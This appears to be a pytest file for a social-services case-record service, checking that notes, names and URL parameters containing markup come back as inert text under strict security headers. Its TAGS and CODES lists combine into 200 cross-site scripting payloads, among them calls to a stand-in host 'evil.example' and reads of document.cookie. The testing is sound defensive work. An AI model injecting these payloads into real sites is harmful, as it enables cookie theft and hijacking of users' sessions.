"""Text is text: whatever markup somebody types comes back as it was typed, and runs nowhere."""

import itertools
import json
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote
from uuid import UUID

import pytest

from application.subject_document import Document, Item, Kept, Line, Looked, Nature, Told
from application.subject_page import page_of
from domain.roles import Role
from tests.support.service import CCAS, Service, running

AT = datetime(2026, 3, 2, 9, tzinfo=UTC)
TAGS = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>a</a>",
    "<form action=javascript:{}><button>",
    "<object data=javascript:{}>",
    "<math><mtext><style><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "' onmouseover={} x='",
    '" onmouseover={} x="',
    "&lt;script&gt;{}&lt;/script&gt;",
    "{{{{constructor.constructor('{}')()}}}}",
    "<ScRiPt\t>{}</sCrIpT >",
    "<script/x>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
)
CODES = (
    "alert(1)",
    "fetch('//evil.example')",
    "eval(name)",
    "import('//x')",
    "top[8680439..toString(30)](1)",
    "`${alert}`",
    "a=document.cookie",
    "\u2028alert(1)",
)
PAYLOADS = [tag.format(code) for tag, code in itertools.product(TAGS, CODES)]


@pytest.fixture
async def service(database_url: str, tmp_path: Path) -> AsyncIterator[Service]:
    async with running(database_url, tmp_path) as service:
        yield service


async def test_markup_comes_back_as_text_that_no_browser_takes_for_a_page(service: Service) -> None:
    assert len(PAYLOADS) == 200
    ccas = await service.agency(CCAS)
    pathway = await ccas.opened(family_name=PAYLOADS[0])
    lines = [
        {
            "path": f"{pathway}/contacts",
            "idempotency_key": str(number),
            "body": {"channel": "phone", "reached": True, "note": payload},
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    sent = "\n".join(map(json.dumps, lines)).encode()
    done = await ccas.post("/v1/batches", content=sent, headers={"Content-Type": "application/x-ndjson"})
    assert [json.loads(line)["status"] for line in done.text.splitlines()] == [201] * 200
    worker = await service.person(Role.WORKER)
    query = {"compartments": "identity,notes", "purpose": "accompaniment"}
    opened = await worker.get(f"{pathway}/contents", params=query, headers={"Accept": "text/html"})
    assert opened.status_code == 200, opened.text
    assert opened.headers["content-type"] == "application/json"
    assert opened.headers["x-content-type-options"] == "nosniff"
    assert opened.headers["content-security-policy"].startswith("default-src 'none'")
    assert opened.json()["identity"]["family_name"] == PAYLOADS[0]
    assert [note["text"] for note in opened.json()["notes"]] == PAYLOADS


class Seen(HTMLParser):
    """What a browser would make of a page: its elements, their attributes, its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(text: str) -> Seen:
    parser = Seen()
    parser.feed(page_of(document(text), UTC).decode())
    parser.close()
    return parser


def document(text: str) -> Document:
    """With that text wherever text may stand."""
    items = tuple(Item(field=field, nature=nature, value=text) for field in ("note", text) for nature in Nature)
    listed = Item(field="theme", nature=Nature.FACT, value=[text, {text: text}], to_check=True)
    return Document(
        id=UUID(int=1),
        pathway_id=UUID(int=2),
        reference=text,
        territory=text,
        known_at=AT,
        draft=True,
        identity={text: text, "family_name": text},
        agencies=(text,),
        contested=(UUID(int=3),),
        restricted=True,
        kept=Kept(last_contact=date(2026, 3, 2), used_until=date(2028, 3, 2), archived_since=None,
                  erased_on=date(2030, 3, 2), held=True),
        history=(Line(version=1, type=text, recorded_at=AT, agency=text, items=(*items, listed)),),
        alerts=(Told(rule=text, status=text, on=AT, agencies=(text,)),),
        accesses=(Looked(at=AT, agency=text, compartments=(text,), purpose=text, legal_basis=text, refused=True),),
    )  # fmt: skip


def test_the_page_that_a_person_is_given_has_the_same_elements_whatever_was_noted() -> None:
    plain = seen("rien")
    assert len(plain.elements) > 40
    for payload in PAYLOADS:
        marked = seen(payload)
        assert marked.elements == plain.elements, payload
        assert payload in marked.text


async def test_no_page_of_ours_runs_what_stands_in_an_address(service: Service) -> None:
    stranger = await service.client({"Accept": "text/html"})
    for payload in PAYLOADS[::8]:
        for path in ("/problems/", "/login?territory=FR-34&agency=ccas&after=", "/bootstrap?code="):
            answer = await stranger.get(path + quote(payload, safe="<>'\"();:"))
            shown_as_page = answer.headers["content-type"].startswith("text/html")
            assert not shown_as_page or payload not in answer.text
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "script-src 'self' 'unsafe" not in answer.headers["content-security-policy"]
            assert "location" not in answer.headers
